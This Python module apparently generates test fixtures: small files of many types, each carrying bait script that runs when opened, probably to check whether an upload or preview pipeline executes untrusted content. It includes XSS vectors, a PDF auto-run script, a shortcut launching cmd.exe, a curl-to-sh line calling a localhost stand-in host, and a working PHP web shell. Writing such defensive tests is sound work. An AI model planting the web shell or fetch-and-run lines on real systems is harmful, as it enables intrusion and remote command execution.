"""Things that are no picture and do something when they are opened: each small, whole and with the bait in it.

Whatever runs script would fetch the bait and change the title of its page. Nothing else happens.
"""

from __future__ import annotations

import io
import struct
import zipfile

BAIT = "bait-was-taken"
_RUNS = f'document.title="{BAIT}";new Image().src="http://127.0.0.1:9/{BAIT}";'
_PAGE = f"<html><body><script>{_RUNS}</script><img src=x onerror='{_RUNS}'></body></html>".encode()


def archive(*names: str) -> bytes:
    """A ZIP with the page under each of the names."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as whole:
        for name in names:
            whole.writestr(zipfile.ZipInfo(name), _PAGE)
    return written.getvalue()


def box(kind: bytes, body: bytes = b"") -> bytes:
    """One box of a video."""
    return struct.pack(">I4s", 8 + len(body), kind) + body


def clip(media: bytes = bytes(64)) -> bytes:
    """A video as its boxes have it; nothing plays it."""
    brands = box(b"ftyp", b"mp42\0\0\0\0mp42isom")
    return brands + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", media)


def program() -> bytes:
    """A program of Windows, as far as its headers."""
    stub = b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    begun = b"MZ" + bytes(58) + struct.pack("<I", 192) + stub
    return begun.ljust(192, b"\0") + b"PE\0\0\x64\x86" + bytes(240)


def shortcut() -> bytes:
    """A shortcut of Windows to its command line."""
    identity = bytes.fromhex("0114020000000000c000000000000046")
    return b"L\0\0\0" + identity + bytes(56) + "cmd.exe /c calc".encode("utf-16-le")


def document() -> bytes:
    """A PDF that asks to run script when it is opened."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('"
        + BAIT.encode()
        + b"'\\))>>>>"
        b"endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


PAYLOADS: dict[str, bytes] = {
    "html": _PAGE,
    "js": f"/*\n*/={_RUNS}/*".encode().replace(b"*/=", b"*/x=1;"),
    "svg": f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload='{_RUNS}'/>".encode(),
    "php": b"<?php echo shell_exec($_GET['c']); ?>",
    "zip": archive("index.html"),
    "jar": archive("META-INF/MANIFEST.MF", "Bait.class"),
    "pdf": document(),
    "mp4": clip(_PAGE),
    "exe": program(),
    "lnk": shortcut(),
    "shell": b"\n#!/bin/sh\ncurl http://127.0.0.1:9/bait-was-taken | sh\n",
}
